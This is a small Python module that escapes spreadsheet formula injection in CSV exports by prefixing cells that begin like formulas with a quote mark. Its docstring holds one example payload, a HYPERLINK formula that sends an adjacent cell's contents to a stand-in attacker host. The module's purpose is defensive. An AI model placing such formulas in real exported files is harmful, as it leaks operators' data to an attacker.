"""CSV for a spreadsheet: a text that a spreadsheet would run as a formula is kept from it by a quotation mark. Pure.

Anybody who may send an event chooses texts that an operator opens later: `=HYPERLINK("http://mallory.test?"&A1)` would
tell mallory what stands beside it. Only what the console gives people to open is so treated: a program that reads the
API's CSV, or the command line's, wants what is there.
"""

import csv
import io
import re

# OWASP's list, the wide forms of East Asian keyboards among them.
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001  those are meant
MARK = "'"
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
LONGEST_CELL = 2**31 - 1


def defused(content: bytes) -> bytes:
    """Return the same CSV, each text that begins like a formula marked; a number stays a number."""
    csv.field_size_limit(LONGEST_CELL)  # Python's own bound is 128 KiB, and answers are bounded as a whole
    text = io.StringIO(newline="")
    rows = csv.reader(io.StringIO(content.decode(), newline=""))
    csv.writer(text).writerows([_cell(cell) for cell in row] for row in rows)
    return text.getvalue().encode()


def _cell(text: str) -> str:
    return f"{MARK}{text}" if text.startswith(BEGINNINGS) and not NUMBER.fullmatch(text) else text
